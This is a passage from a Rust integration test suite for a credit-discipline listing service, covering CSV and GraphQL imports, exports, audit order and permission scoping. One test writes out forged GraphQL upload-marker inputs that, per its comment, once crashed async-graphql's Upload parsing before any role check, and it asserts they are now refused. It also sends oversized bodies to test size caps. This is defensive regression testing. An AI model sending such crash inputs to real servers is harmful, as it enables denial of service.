        batchId fileName sha256 encoding dryRun rows created updated unchanged rejected committed errors { row column message } } }";
    let ops = |dry: bool| json!({"query": q, "variables": {"file": null, "d": dry}});
    let dry = app
        .post_graphql_upload(
            Some(&app.admin()),
            &ops(true),
            "listings-template.csv",
            template,
        )
        .await;
    assert_eq!(dry.status, 200, "{}", dry.body);
    let r = &dry.body["data"]["importListings"];
    assert_eq!(
        (
            r["rows"].as_u64(),
            r["created"].as_u64(),
            r["committed"].as_bool()
        ),
        (Some(1), Some(1), Some(false)),
        "{}",
        dry.body
    );
    assert_eq!(app.count("listings").await, 0);
    let done = app
        .post_graphql_upload(
            Some(&app.admin()),
            &ops(false),
            "listings-template.csv",
            template,
        )
        .await;
    let r = &done.body["data"]["importListings"];
    assert_eq!(
        (r["created"].as_u64(), r["committed"].as_bool()),
        (Some(1), Some(true)),
        "{}",
        done.body
    );
    assert_eq!(r["fileName"], "listings-template.csv");
    assert_eq!(app.count("listings").await, 1);
    // Another division's admin: the row is refused, by row and column.
    let other = app
        .post_graphql_upload(
            Some(&app.region_admin("441881")),
            &ops(false),
            "listings-template.csv",
            template,
        )
        .await;
    let r = &other.body["data"]["importListings"];
    assert_eq!(r["rejected"].as_u64(), Some(1), "{}", other.body);
    assert_eq!(r["errors"][0]["row"].as_u64(), Some(2));
    assert_eq!(r["errors"][0]["column"], "统一社会信用代码");
    // Not for partners or auditors.
    let auditor = app
        .post_graphql_upload(Some(&app.auditor()), &ops(true), "t.csv", template)
        .await;
    assert_eq!(auditor.body["errors"][0]["extensions"]["code"], "FORBIDDEN");
    // A forged upload marker in a JSON request is refused before anything runs.
    let forged = app
        .post_graphql(
            Some(&app.admin()),
            &json!({"query": q, "variables": {"file": "#__graphql_file__:7"}}),
            &[],
        )
        .await;
    assert_eq!(forged.status, 400);
    assert_eq!(
        forged.body["errors"][0]["extensions"]["code"],
        "BAD_REQUEST"
    );
    // Written into the document instead (a literal, a variable's default), a marker
    // made async-graphql's Upload panic while parsing the argument, before any role
    // check, for anyone: now refused by the input guard, and the server answers on.
    for query in [
        r##"mutation { importListings(file: "#__graphql_file__:x") { batchId } }"##,
        r##"mutation($f: Upload = "#__graphql_file__:0") { importListings(file: $f) { batchId } }"##,
    ] {
        let literal = app.post_graphql(None, &json!({"query": query}), &[]).await;
        assert_eq!(
            literal.body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
            "{query}: {}",
            literal.body
        );
        assert_eq!(
            literal.body["errors"][0]["extensions"]["details"]["reason"], "NO_SUCH_UPLOAD",
            "{}",
            literal.body
        );
    }
    let alive = app.gql(None, "{ lists { code } }", json!({})).await;
    assert_eq!(alive.status, 200, "{:?}", alive.body);
    // The import's larger body cap is an admin's: anyone else's multipart body has the
    // ordinary cap, since it is read whole before its operation is known.
    let big = vec![b'x'; app.state.settings.limits.max_body_bytes + 1];
    let partner = app
        .partner(
            "bulk-cap-partner",
            &[api::domain::measures::Domain::Procurement],
        )
        .await;
    for token in [None, Some(partner)] {
        let refused = app
            .post_graphql_upload(token.as_deref(), &ops(true), "big.csv", &big)
            .await;
        assert_eq!(refused.status, 413, "{}", refused.body);
        assert_eq!(
            refused.body["errors"][0]["extensions"]["code"],
            "PAYLOAD_TOO_LARGE"
        );
    }
    let admin = app
        .post_graphql_upload(Some(&app.admin()), &ops(true), "big.csv", &big)
        .await;
    assert_ne!(admin.status, 413, "{}", admin.body);
}

/// Operators: created, unchanged on re-import, updated (former name kept) when changed.
async fn operators_import_like_upsert_operator(app: TestApp) {
    let template = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../docs/examples/operators-template.csv"
    ))
    .unwrap();
    let who = actor(None);
    let ops = |o: &mut ImportOptions| o.kind = Kind::Operators;
    let first = run(&app, "ops.csv", template.as_bytes(), &who, ops).await;
    assert_eq!(
        (first.created, first.updated, first.rejected),
        (1, 0, 0),
        "{:?}",
        first.errors
    );
    let again = run(&app, "ops.csv", template.as_bytes(), &who, ops).await;
    assert_eq!((again.created, again.updated, again.unchanged), (0, 0, 1));
    let changed = template.replace("清远市某某食品有限公司", "清远市某某餐饮有限公司");
    let renamed = run(&app, "ops2.csv", changed.as_bytes(), &who, ops).await;
    assert_eq!(renamed.updated, 1);
    let q = "{ operator(uscc: \"91441802MA4W7K3Q8P\") { name formerNames legalRepresentative } }";
    let r = app.gql(Some(&app.admin()), q, json!({})).await;
    assert_eq!(r.data()["operator"]["name"], "清远市某某餐饮有限公司");
    assert_eq!(
        r.data()["operator"]["formerNames"][0],
        "清远市某某食品有限公司"
    );
    assert_eq!(r.data()["operator"]["legalRepresentative"], "张某");
    // Out of a region admin's scope: refused by row and column.
    let other = actor(Some("441881"));
    let refused = run(&app, "ops.csv", template.as_bytes(), &other, ops).await;
    assert_eq!(refused.rejected, 1);
    assert_eq!(
        refused.errors[0].column.as_deref(),
        Some("统一社会信用代码")
    );
    // One bound for checkDigitOverrideReason, both ways: 2,000 characters.
    let mut code = valid_code("441802", 7601);
    let last = if code.ends_with('0') { '1' } else { '0' };
    code.pop();
    code.push(last);
    let upsert =
        "mutation($i: UpsertOperatorInput!) { upsertOperator(input: $i) { checkDigitOverride } }";
    let long = "旧".repeat(2_001);
    let r = app
        .gql(
            Some(&app.admin()),
            upsert,
            json!({"i": {"uscc": code, "name": "清远旧码有限公司", "checkDigitOverrideReason": long}}),
        )
        .await;
    r.assert_error("BAD_USER_INPUT");
    assert!(
        r.error_message().contains("2000 characters"),
        "{:?}",
        r.body
    );
    let file = |reason: &str| {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record(["统一社会信用代码", "市场主体名称", "校验码豁免理由"])
            .unwrap();
        w.write_record([code.as_str(), "清远旧码有限公司", reason])
            .unwrap();
        w.into_inner().unwrap()
    };
    let r = run(&app, "long.csv", &file(&long), &who, ops).await;
    assert_eq!(r.rejected, 1, "{:?}", r.errors);
    assert_eq!(r.errors[0].column.as_deref(), Some("校验码豁免理由"));
    let fits = "旧".repeat(2_000);
    app.gql(
        Some(&app.admin()),
        upsert,
        json!({"i": {"uscc": code, "name": "清远旧码有限公司", "checkDigitOverrideReason": fits}}),
    )
    .await
    .data();
    let r = run(&app, "fits.csv", &file(&fits), &who, ops).await;
    assert_eq!((r.unchanged, r.rejected), (1, 0), "{:?}", r.errors);
}

/// A chunk that mixes corrections and new listings writes their audit events in the
/// file's row order (the chain is the history: row 3's correction between the listings
/// of rows 2 and 4, not after both).
async fn a_mixed_chunk_is_audited_in_row_order(app: TestApp) {
    let c = codes(3);
    let who = actor(None);
    let rows = three(&c);
    let first = run(
        &app,
        "one.csv",
        csv_text(&rows[..1]).as_bytes(),
        &who,
        |_| {},
    )
    .await;
    assert_eq!(first.created, 1);
    let before = app.count("audit_events").await;
    let mut corrected = rows[0].clone();
    corrected[7] = "收取预付款后卷款跑路，涉及消费者二百余人".into();
    let mixed = vec![rows[1].clone(), corrected, rows[2].clone()];
    let report = run(&app, "mixed.csv", csv_text(&mixed).as_bytes(), &who, |o| {
        o.chunk_rows = 10
    })
    .await;
    assert_eq!((report.created, report.updated), (2, 1));
    let events = app
        .db
        .query_all_raw(Statement::from_string(
            app.db.get_database_backend(),
            "SELECT action FROM audit_events ORDER BY id".to_string(),
        ))
        .await
        .unwrap();
    let actions: Vec<String> = events
        .iter()
        .skip(usize::try_from(before).unwrap())
        .map(|e| e.try_get::<String>("", "action").unwrap())
        .collect();
    assert_eq!(
        actions,
        [
            "operator.create",
            "listing.repaired",
            "listing.corrected",
            "operator.create",
            "listing.decided",
        ]
    );
}

/// The import's statistics refresh: on PostgreSQL a table changed well beyond its last
/// analysis is analysed (once: right after, it is fresh); SQLite has nothing to refresh.
async fn stale_statistics_are_refreshed_once(app: TestApp) {
    use api::store::statistics::refresh_stale_beyond;
    let tables = ["listings", "operators"];
    if app.backend == tests::Backend::Sqlite {
        assert!(
            refresh_stale_beyond(&app.db, &tables, 0)
                .await
                .unwrap()
                .is_empty()
        );
        return;
    }
    app.sql("ANALYZE listings").await;
    app.sql("ANALYZE operators").await;
    app.sql(
        "INSERT INTO operators (uscc, name, name_normalized, former_names, region_code, address_is_personal, version, created_at, updated_at) \
         SELECT 'X' || g, 'n' || g, 'n' || g, '[]', '441802', false, 1, now(), now() FROM generate_series(1, 50) g",
    )
    .await;
    // The statistics system sees a backend's counts within a second or so of its commit.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let analysed = loop {
        let analysed = refresh_stale_beyond(&app.db, &tables, 10).await.unwrap();
        if !analysed.is_empty() || std::time::Instant::now() > deadline {
            break analysed;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    };
    assert_eq!(
        analysed,
        vec!["operators".to_string()],
        "listings did not change"
    );
    assert!(
        refresh_stale_beyond(&app.db, &tables, 10)
            .await
            .unwrap()
            .is_empty(),
        "just analysed"
    );
}

/// The check-records export pages through ties: three batches of checks (each batch's
/// records share one instant) come out whole, each record once, in (checkedAt,
/// receiptId) order, across pages of 1,000.
async fn the_check_records_export_pages_through_ties(app: TestApp) {
    use api::domain::measures::Domain;
    app.register_partner("partner-t", &[Domain::Procurement])
        .await;
    let token = app.partner_token("partner-t", &[Domain::Procurement]);
    let mut serial = 9_000;
    for size in [1_000, 1_000, 350] {
        let codes: Vec<String> = (0..size)
            .map(|_| {
                serial += 1;
                valid_code("441802", serial)
            })
            .collect();
        app.gql(
            Some(&token),
            "query($u: [String!]!) { checkBatch(usccs: $u, domain: PROCUREMENT, reference: \"T-9\") { decision } }",
            json!({"u": codes}),
        )
        .await
        .data();
    }
    let text = get_as(&app, ALL_CHECK_RECORDS, Some(&app.auditor()))
        .await
        .text()
        .await
        .unwrap();
    let rows: Vec<(String, String)> = text
        .lines()
        .skip(1)
        .map(|l| {
            let mut cells = l.split(',');
            let id = cells.next().unwrap().to_string();
            let at = cells.next().unwrap().to_string();
            (at, id)
        })
        .collect();
    assert_eq!(rows.len(), 2_350);
    let distinct: std::collections::BTreeSet<&String> = rows.iter().map(|(_, id)| id).collect();
    assert_eq!(distinct.len(), 2_350, "every record once");
    let instants: std::collections::BTreeSet<&String> = rows.iter().map(|(at, _)| at).collect();
    assert!(
        instants.len() <= 3,
        "a batch's records share its instant: {instants:?}"
    );
    let mut sorted = rows.clone();
    sorted.sort();
    assert_eq!(rows, sorted, "in (checkedAt, receiptId) order");
}

/// Each chunk is on record from when it was written, not from when the import started:
/// `check(knownAt:)` at an instant between two chunks answers what a check answered then
/// (the rows already written restricted, the rows still to come not yet known).
async fn an_import_is_on_record_chunk_by_chunk(app: TestApp) {
    let c = codes(3);
    let rows: Vec<Vec<String>> = c
        .iter()
        .enumerate()
        .map(|(i, code)| {
            let doc = format!("列-K{i}");
            row(
                code,
                &doc,
                "2026-02-02",
                "2026-02-12",
                "2026-03-02",
                "",
                "",
                "",
            )
        })
        .collect();
    let text = csv_text(&rows);
    // After each chunk's commit the clock moves ten minutes on, and the instant just
    // before the next chunk is noted.
    let clock = app.state.services.clock.clone();
    let between = std::sync::Mutex::new(Vec::new());
    let progress = |phase: import::Phase, _: u64, _: Option<u64>| {
        if phase == import::Phase::Writing {
            clock.advance(chrono::Duration::minutes(10));
            between
                .lock()
                .unwrap()
                .push(clock.now() - chrono::Duration::minutes(1));
        }
    };
    let report = run_with_progress(
        &app,
        "chunks.csv",
        text.as_bytes(),
        &actor(None),
        |o| o.chunk_rows = 1,
        Some(&progress),
    )
    .await;
    assert_eq!((report.created, report.rejected), (3, 0), "{report:?}");
    let between = between.into_inner().unwrap();
    assert_eq!(between.len(), 3, "one progress report per chunk");

    let q = "query($u: String!, $k: DateTime) { check(uscc: $u, domain: PROCUREMENT, knownAt: $k) { decision } }";
    let decision = |code: String, k: Option<String>| {
        let app = &app;
        async move {
            let r = app
                .gql(Some(&app.admin()), q, json!({"u": code, "k": k}))
                .await;
            r.data()["check"]["decision"].as_str().unwrap().to_string()
        }
    };
    for (written, k) in between.iter().enumerate().take(2) {
        let k = k.to_rfc3339();
        for (i, code) in c.iter().enumerate() {
            let expected = if i <= written { "RESTRICTED" } else { "CLEAR" };
            assert_eq!(
                decision(code.clone(), Some(k.clone())).await,
                expected,
                "row {} known at {k}, after {} chunk(s)",
                i + 1,
                written + 1
            );
        }
    }
    for code in &c {
        assert_eq!(decision(code.clone(), None).await, "RESTRICTED");
    }
}

/// The errors of a refused import as (row, column, message).
fn refusals(r: &ImportReport) -> Vec<(u64, String, String)> {
    r.errors
        .iter()
        .map(|e| {
            (
                e.row,
                e.column.clone().unwrap_or_default(),
                e.message.clone(),
            )
        })
        .collect()
}

/// An import corrects facts but never moves a recorded listing through its lifecycle:
/// no removal of a listing in force, no reinstating, re-dating or re-kinding a removal.
async fn an_import_does_not_remove_or_reinstate_a_listing(app: TestApp) {
    let c = codes(3);
    let who = actor(None);
    let first = run(
        &app,
        "list.csv",
        csv_text(&three(&c)).as_bytes(),
        &who,
        |_| {},
    )
    .await;
    assert_eq!(first.created, 3, "{:?}", first.errors);
    let revisions = app.count("listing_revisions").await;
    // Each refused row: (row index, removedDate, removalKind, what the message names).
    let cases = [
        // c[2] expired here in 2026 without a repair; c[0] is in force.
        (2, "2025-06-01", "REPAIRED", "decideRepairApplication"),
        (0, "2026-04-01", "REVOKED", "revokeListing"),
        (1, "", "", "reinstate"),
        (
            1,
            "2026-03-20",
            "REPAIRED",
            "move its removal to 2026-03-20",
        ),
        (1, "2026-03-16", "REVOKED", "as REVOKED instead"),
    ];
    for (i, removed, kind, named) in cases {
        let mut rows = three(&c);
        rows[i][13] = removed.into();
        rows[i][14] = kind.into();
        let r = run(&app, "old.csv", csv_text(&rows).as_bytes(), &who, |_| {}).await;
        assert!(!r.committed, "{removed} {kind}");
        assert_eq!((r.rejected, r.updated), (1, 0), "{:?}", r.errors);
        let e = refusals(&r);
        assert_eq!(e.len(), 1, "{e:?}");
        assert_eq!((e[0].0, e[0].1.as_str()), (i as u64 + 2, "移出日期"));
        assert!(e[0].2.contains(named), "{named}: {}", e[0].2);
        // --partial writes the other rows and still refuses this one.
        let p = run(&app, "old.csv", csv_text(&rows).as_bytes(), &who, |o| {
            o.partial = true
        })
        .await;
        assert!(p.committed);
        assert_eq!((p.rejected, p.updated, p.unchanged), (1, 0, 2));
    }
    assert_eq!(app.count("listing_revisions").await, revisions);
    assert_eq!(decision_at(&app, &c[0], None).await, "RESTRICTED");
    assert_eq!(listing_by_doc(&app, &c[0]).await["status"], "LISTED");
    assert_eq!(decision_at(&app, &c[1], None).await, "CLEAR");
    let repaired = listing_by_doc(&app, &c[1]).await;
    assert_eq!(repaired["status"], "REPAIRED");

    // Facts of a removed listing may still be corrected; its removal stays as recorded.
    let mut rows = three(&c);
    rows[1][7] = "收取预付款后卷款跑路（更正）".into();
    let r = run(&app, "fix.csv", csv_text(&rows).as_bytes(), &who, |_| {}).await;
    assert_eq!((r.updated, r.rejected), (1, 0), "{:?}", r.errors);
    let fixed = listing_by_doc(&app, &c[1]).await;
    assert_eq!(fixed["status"], "REPAIRED");
    assert_eq!(fixed["removedAt"], repaired["removedAt"]);
    // Its penalty revoked after the repair: the period keeps the repair's removal, which
    // the row (as an export writes it) still names; a correction keeps both.
    app.gql(
        Some(&app.admin()),
        "mutation($i: RevokeListingInput!) { revokeListing(input: $i) { status } }",
        json!({"i": {"id": fixed["id"], "expectedVersion": 2, "ground": "PENALTY_REVOKED", "revocationDocNo": "R-0", "reason": "行政复议撤销原处罚决定"}}),
    )
    .await
    .data();
    rows[1][8] = "第八条（更正）".into();
    let r = run(&app, "fix2.csv", csv_text(&rows).as_bytes(), &who, |_| {}).await;
    assert_eq!((r.updated, r.rejected), (1, 0), "{:?}", r.errors);
    let twice = listing_by_doc(&app, &c[1]).await;
    assert_eq!(twice["status"], "REVOKED");
    assert_eq!(twice["removedAt"], repaired["removedAt"]);

    // A listing revoked here: the old sheet (in force) does not reinstate it, and a
    // correction naming the revocation keeps its recorded instant.
    let a = listing_by_doc(&app, &c[0]).await;
    app.gql(
        Some(&app.admin()),
        "mutation($i: RevokeListingInput!) { revokeListing(input: $i) { status } }",
        json!({"i": {"id": a["id"], "expectedVersion": 1, "ground": "PENALTY_REVOKED", "revocationDocNo": "R-1", "reason": "行政复议撤销原处罚决定"}}),
    )
    .await
    .data();
    let revoked = listing_by_doc(&app, &c[0]).await;
    rows[0][7] = "收取预付款后卷款跑路（更正）".into();
    let r = run(&app, "old.csv", csv_text(&rows).as_bytes(), &who, |_| {}).await;
    assert_eq!((r.rejected, r.updated), (1, 0), "{:?}", r.errors);
    assert!(refusals(&r)[0].2.contains("reinstate"), "{:?}", r.errors);
    assert_eq!(decision_at(&app, &c[0], None).await, "CLEAR");
    let on = api::domain::china_date(revoked["removedAt"].as_str().unwrap().parse().unwrap());
    rows[0][13] = on.to_string();
    rows[0][14] = "REVOKED".into();
    let r = run(&app, "fix.csv", csv_text(&rows).as_bytes(), &who, |_| {}).await;
    assert_eq!((r.updated, r.rejected), (1, 0), "{r:?}");
    let after = listing_by_doc(&app, &c[0]).await;
    assert_eq!(after["status"], "REVOKED");
    assert_eq!(after["removedAt"], revoked["removedAt"]);

    // A new listing with a historical removal is still imported as it was.
    let other = valid_code("441802", 7500);
    let new = row(
        &other,
        "列-N",
        "2025-01-06",
        "2025-01-10",
        "2025-02-10",
        "",
        "2026-03-16",
        "REVOKED",
    );
    let r = run(&app, "new.csv", csv_text(&[new]).as_bytes(), &who, |_| {}).await;
    assert_eq!((r.created, r.rejected), (1, 0), "{:?}", r.errors);
    assert_eq!(listing_by_doc(&app, &other).await["status"], "REVOKED");
}

/// An imported REPAIRED removal obeys the repair procedure's minimum (a year listed).
async fn an_imported_repair_obeys_the_repair_minimum(app: TestApp) {
    let c = codes(2);
    let who = actor(None);
    let repaired = |code: &str, doc: &str, removed: &str| {
        row(
            code,
            doc,
            "2025-01-06",
            "2025-01-10",
            "2025-02-10",
            "",
            removed,
            "REPAIRED",
        )
    };
    let early = vec![
        repaired(&c[0], "列-E", "2026-02-09"),
        repaired(&c[1], "列-F", "2026-02-10"),
    ];
    let r = run(&app, "early.csv", csv_text(&early).as_bytes(), &who, |_| {}).await;
    assert!(!r.committed);
    let e = refusals(&r);
    assert_eq!(r.rejected, 1, "{e:?}");
    assert_eq!((e[0].0, e[0].1.as_str()), (2, "移出日期"));
    assert!(
        e[0].2.contains("12 months") && e[0].2.contains("from 2026-02-10"),
        "{}",
        e[0].2
    );
    assert_eq!(app.count("listings").await, 0);
    // A year to the day is enough; a revocation has no minimum.
    let mut ok = early.clone();
    ok[0][14] = "REVOKED".into();
    let r = run(&app, "ok.csv", csv_text(&ok).as_bytes(), &who, |_| {}).await;
    assert_eq!((r.created, r.rejected), (2, 0), "{:?}", r.errors);
    assert_eq!(listing_by_doc(&app, &c[1]).await["status"], "REPAIRED");
    // The list's minimum raised since: the recorded repair stands, its row is unchanged.
    app.gql(
        Some(&app.admin()),
        "mutation { upsertList(input: {code: \"SAMR_SERIOUS_DISHONEST\", repairMinMonths: 24}) { repairMinMonths } }",
        json!({}),
    )
    .await
    .data();
    let r = run(&app, "ok.csv", csv_text(&ok).as_bytes(), &who, |_| {}).await;
    assert_eq!((r.unchanged, r.rejected), (2, 0), "{:?}", r.errors);
}

/// A file that is wrong throughout keeps only the first refusals (every rejected row is
/// still counted), so a million rows with a date in another format cannot fill memory
/// or the GraphQL answer; with --partial the rest is imported.
async fn the_errors_kept_are_bounded(app: TestApp) {
    let rows: Vec<Vec<String>> = (0..6)
        .map(|i| {
            let penalty = if i == 0 {
                "2026-02-02"
            } else {
                "2026年2月2日"
            };
            row(
                &valid_code("441802", 8100 + i),
                &format!("界-{i}"),
                penalty,
                "2026-02-12",
                "2026-03-02",
                "",
                "",
                "",
            )
        })
        .collect();
    let who = actor(None);
    let bounded = |o: &mut ImportOptions| o.max_errors = 2;
    let refused = run(&app, "many.csv", csv_text(&rows).as_bytes(), &who, bounded).await;
    assert_eq!(refused.rejected, 5, "{:?}", refused.errors);
    assert_eq!(refused.errors.len(), 2, "{:?}", refused.errors);
    assert_eq!(refused.errors_omitted, 3);
    assert_eq!(
        refused.errors.iter().map(|e| e.row).collect::<Vec<_>>(),
        [3, 4],
        "the first ones, in row order"
    );
    assert!(!refused.committed);
    let partial = run(&app, "many.csv", csv_text(&rows).as_bytes(), &who, |o| {
        o.max_errors = 2;
        o.partial = true;
    })
    .await;
    assert!(partial.committed);
    assert_eq!(
        (partial.created, partial.rejected, partial.unchanged),
        (1, 5, 0),
        "{:?}",
        partial.errors
    );
    assert_eq!((partial.errors.len(), partial.errors_omitted), (2, 3));
}

on_both_backends!(
    csv_exports_quote_formula_like_text,
    a_retired_list_and_measure_re_import_unchanged,
    an_expired_row_is_the_end_of_its_period,
    an_empty_measures_cell_keeps_the_recorded_measures,
    an_import_correction_keeps_the_recorded_period,
    the_errors_kept_are_bounded,
    a_resumed_import_plans_its_committed_rows_again,
    a_changed_list_default_does_not_change_recorded_periods,
    an_imported_repair_obeys_the_repair_minimum,
    an_import_does_not_remove_or_reinstate_a_listing,
    an_import_is_on_record_chunk_by_chunk,
    the_check_records_export_pages_through_ties,
    stale_statistics_are_refreshed_once,
    operators_import_like_upsert_operator,
    a_mixed_chunk_is_audited_in_row_order,
    listings_upload_over_graphql,
    an_export_re_imports_without_change,
    the_public_list_export_is_cacheable_and_signed,
    the_check_records_export_is_scoped_to_the_partner,
    an_imported_list_is_in_force_as_if_decided_here,
    a_file_with_bad_rows_is_refused_whole_unless_partial,
    gb18030_and_xlsx_files_import_the_same_listings,
);

/// `export listings` as CSV bytes.
async fn export_listings(app: &TestApp) -> Vec<u8> {
    use api::service::export::{self, ExportFilter, ExportKind};
    let out = tempfile::NamedTempFile::new().unwrap();
    let mut sink = Sink::new(
        OutputFormat::Csv,
        Box::new(out.reopen().unwrap()),
        export::columns_of(ExportKind::Listings),
    )
    .unwrap();
    export::export(
        &app.db,
        ExportKind::Listings,
        &ExportFilter::default(),
        app.state.clock.now(),
        &mut sink,
        || async { Ok(()) },
    )
    .await
    .unwrap();
    sink.finish().unwrap();
    std::fs::read(out.path()).unwrap()
}

/// The rows of a CSV export (header first), as text cells.
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let text = text.trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn csv_of(rows: &[Vec<String>]) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    for r in rows {
        w.write_record(r).unwrap();
    }
    w.into_inner().unwrap()
}

/// A row that corrects something else (the reason) keeps the recorded period: a start
/// later than the decision date's midnight (`effectiveAt`) and an end corrected off a
/// month boundary (`expiresAt`) are neither moved nor shortened; new months end the
/// period from the recorded start; a decision date after the recorded start is refused
/// as correctListing refuses it.
async fn an_import_correction_keeps_the_recorded_period(app: TestApp) {
    use super::listings::{decide, propose};
    let who = actor(None);
    // A: decided on 2026-03-05, in force from 2026-03-08 10:00 (Beijing).
    let a = valid_code("441802", 7301);
    app.create_operator(&a, "清远迟生效有限公司").await;
    let p = propose(&app, &app.admin(), &a, "2026-03-02").await;
    let id = p.data()["proposeListing"]["id"]
        .as_str()
        .unwrap()
        .to_string();
    decide(
        &app,
        &app.admin(),
        &id,
        1,
        "2026-03-05",
        Some(tests::at("2026-03-08T02:00:00Z")),
    )
    .await
    .data();
    // B: imported, its end corrected 20 days past 36 months.
    let b = codes(1).remove(0);
    let rows = vec![row(
        &b,
        "列-B",
        "2026-02-02",
        "2026-02-12",
        "2026-03-02",
        "",
        "",
        "",
    )];
    let r = run(&app, "b.csv", csv_text(&rows).as_bytes(), &who, |_| {}).await;
    assert_eq!(r.created, 1, "{:?}", r.errors);
    let lb = listing_by_doc(&app, &b).await;
    app.gql(
        Some(&app.admin()),
        "mutation($i: CorrectListingInput!) { correctListing(input: $i) { version } }",
        json!({"i": {"id": lb["id"], "expectedVersion": 1, "reason": "法定期限",
                     "expiresAt": "2029-03-21T16:00:00Z"}}),
    )
    .await
    .data();
    let before_a = listing_by_doc(&app, &a).await;
    let before_b = listing_by_doc(&app, &b).await;
    assert_eq!(before_a["listedAt"], "2026-03-08T02:00:00+00:00");
    assert_eq!(before_a["expiresAt"], "2029-03-08T02:00:00+00:00");
    assert_eq!(before_b["expiresAt"], "2029-03-21T16:00:00+00:00");
    let exported = csv_rows(&export_listings(&app).await);
    // Unchanged as exported.
    let r = run(&app, "export.csv", &csv_of(&exported), &who, |_| {}).await;
    assert_eq!(
        (r.unchanged, r.updated, r.rejected),
        (2, 0, 0),
        "{:?}",
        r.errors
    );
    // The reason changed on both rows: updated, the periods as they were.
    let mut edited = exported.clone();
    for r in edited.iter_mut().skip(1) {
        r[7] = "更正后的列入事由".into();
    }
    let r = run(&app, "reason.csv", &csv_of(&edited), &who, |_| {}).await;
    assert_eq!((r.updated, r.rejected), (2, 0), "{:?}", r.errors);
    for (code, before) in [(&a, &before_a), (&b, &before_b)] {
        let after = listing_by_doc(&app, code).await;
        assert_eq!(after["listedAt"], before["listedAt"], "{code}");
        assert_eq!(after["expiresAt"], before["expiresAt"], "{code}");
    }
    // Still not in force before its effectiveAt.
    let q = "query($u: String!, $t: DateTime) { check(uscc: $u, domain: PROCUREMENT, asOf: $t) { decision } }";
    let r = app
        .gql(
            Some(&app.admin()),
            q,
            json!({"u": a, "t": "2026-03-06T00:00:00Z"}),
        )
        .await;
    assert_eq!(r.data()["check"]["decision"], "CLEAR");
    // New months: from the recorded start.
    let months = edited[0]
        .iter()
        .position(|h| h == "列入期限（月）")
        .unwrap();
    let dates = edited[0].iter().position(|h| h == "列入日期").unwrap();
    let row_a = edited.iter().position(|r| r[0] == a).unwrap();
    let mut longer = edited.clone();
    longer[row_a][months] = "48".into();
    let r = run(&app, "longer.csv", &csv_of(&longer), &who, |_| {}).await;
    assert_eq!((r.updated, r.rejected), (1, 0), "{:?}", r.errors);
    let after = listing_by_doc(&app, &a).await;
    assert_eq!(after["listedAt"], "2026-03-08T02:00:00+00:00");
    assert_eq!(after["expiresAt"], "2030-03-08T02:00:00+00:00");
    // A decision dated after the listing took effect: correctListing's refusal.
    let mut late = longer.clone();
    late[row_a][dates] = "2026-03-09".into();
    let r = run(&app, "late.csv", &csv_of(&late), &who, |_| {}).await;
    assert_eq!(r.rejected, 1, "{:?}", r.errors);
    assert_eq!(
        r.errors[0].column.as_deref(),
        Some("列入日期"),
        "{:?}",
        r.errors
    );
    assert!(
        r.errors[0]
            .message
            .contains("after the listing took effect"),
        "{:?}",
        r.errors
    );
    // An earlier decision date is a correction that keeps the start.
    late[row_a][dates] = "2026-03-04".into();
    let r = run(&app, "early.csv", &csv_of(&late), &who, |_| {}).await;
    assert_eq!((r.updated, r.rejected), (1, 0), "{:?}", r.errors);
    let after = listing_by_doc(&app, &a).await;
    assert_eq!(after["decisionDate"], "2026-03-04");
    assert_eq!(after["listedAt"], "2026-03-08T02:00:00+00:00");
    assert_eq!(after["expiresAt"], "2030-03-08T02:00:00+00:00");
    // Back down to 40 months, still at least the list's 36: taken. To 30 months, ending
    // in 2028 (in force until then): below the list's period, refused as correctListing
    // refuses it.
    late[row_a][months] = "40".into();
    let r = run(&app, "forty.csv", &csv_of(&late), &who, |_| {}).await;
    assert_eq!((r.updated, r.rejected), (1, 0), "{:?}", r.errors);
    late[row_a][months] = "30".into();
    let r = run(&app, "thirty.csv", &csv_of(&late), &who, |_| {}).await;
    assert_eq!(r.rejected, 1, "{:?}", r.errors);
    assert_eq!(
        r.errors[0].column.as_deref(),
        Some("列入期限（月）"),
        "{:?}",
        r.errors
    );
    assert!(
        r.errors[0].message.contains("below the list's period"),
        "{:?}",
        r.errors
    );
    assert_eq!(
        listing_by_doc(&app, &a).await["expiresAt"],
        "2029-07-08T02:00:00+00:00"
    );
}

/// An empty 惩戒措施 cell is the list's defaults for a new listing only: re-running a
/// file after the defaults changed leaves the recorded measures as they are.
async fn an_empty_measures_cell_keeps_the_recorded_measures(app: TestApp) {
    let c = codes(3);
    let text = csv_text(&three(&c));
    let who = actor(None);
    let first = run(&app, "list.csv", text.as_bytes(), &who, |_| {}).await;
    assert_eq!(first.created, 3, "{:?}", first.errors);
    let before = listing_by_doc(&app, &c[0]).await;
    assert!(before["measures"].as_array().unwrap().len() > 1, "{before}");
    let revisions = app.count("listing_revisions").await;
    app.gql(
        Some(&app.admin()),
        "mutation { upsertList(input: {code: \"SAMR_SERIOUS_DISHONEST\", defaultMeasureCodes: [\"PROCUREMENT_RESTRICT\"]}) { code } }",
        json!({}),
    )
    .await
    .data();
    let r = run(&app, "list.csv", text.as_bytes(), &who, |_| {}).await;
    assert_eq!(
        (r.updated, r.unchanged, r.rejected),
        (0, 3, 0),
        "{:?}",
        r.errors
    );
    assert_eq!(app.count("listing_revisions").await, revisions);
    assert_eq!(
        listing_by_doc(&app, &c[0]).await["measures"],
        before["measures"]
    );
    // A new listing with an empty cell takes the defaults as they are now.
    let new = valid_code("441802", 7401);
    let rows = vec![row(
        &new,
        "列-N",
        "2026-02-02",
        "2026-02-12",
        "2026-03-02",
        "",
        "",
        "",
    )];
    let r = run(&app, "new.csv", csv_text(&rows).as_bytes(), &who, |_| {}).await;
    assert_eq!(r.created, 1, "{:?}", r.errors);
    assert_eq!(
        listing_by_doc(&app, &new).await["measures"],
        json!([{"code": "PROCUREMENT_RESTRICT"}])
    );
    // Its only default deactivated, the list gives a new listing no measure: refused, as
    // decideListing refuses it. The recorded listings still re-import unchanged.
    app.gql(
        Some(&app.admin()),
